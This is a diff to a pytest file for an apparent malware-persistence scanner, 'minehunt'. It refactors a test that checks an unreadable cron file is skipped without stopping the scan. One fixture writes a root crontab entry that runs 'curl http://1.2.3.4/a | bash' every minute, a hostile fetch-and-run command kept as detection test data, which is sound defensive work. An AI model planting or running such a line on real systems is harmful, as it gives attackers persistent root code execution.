@@ -6,11 +6,9 @@ Each fixture is what a real campaign writes; each must be found with its file an
 from __future__ import annotations
 
 import base64
-import json
 import os
 import shutil
 import subprocess
-import sys
 from pathlib import Path
 
 import pytest
@@ -194,31 +192,14 @@ def test_unreadable_start_up_file_is_skipped_not_fatal(tmp_path: Path) -> None:
     write(tmp_path, "etc/crontab", "* * * * * root curl http://1.2.3.4/a | bash\n")
     write(tmp_path, "etc/cron.d/secret", "* * * * * root true\n", 0o000)
     # Root without the DAC capabilities cannot read a mode-000 file: really unreadable.
-    caps = "-dac_override,-dac_read_search"
-    proc = subprocess.run(
-        [
-            "setpriv",
-            f"--inh-caps={caps}",
-            f"--bounding-set={caps}",
-            sys.executable,
-            "-m",
-            "minehunt",
-            "scan",
-            "host",
-            "--root",
-            str(tmp_path),
-            "--format",
-            "json",
-            "--strict",
-            "--fail-on",
-            "critical",
-        ],
-        capture_output=True,
-        text=True,
+    r = run_cli(
+        *("scan", "host", "--root", str(tmp_path), "--format", "json", "--strict"),
+        *("--fail-on", "critical"),
+        drop_caps="dac_override,dac_read_search",
         timeout=60,
     )
-    assert proc.returncode == 3, proc.stderr
-    report = Report.from_dict(json.loads(proc.stdout))
+    assert r.code == 3, r.stderr
+    report = r.report
     skipped = [s for s in report.skipped if s.target == "/etc/cron.d/secret"]
     assert skipped and "Permission denied" in skipped[0].reason
     assert by_path(report, "/etc/crontab").severity >= Severity.MEDIUM
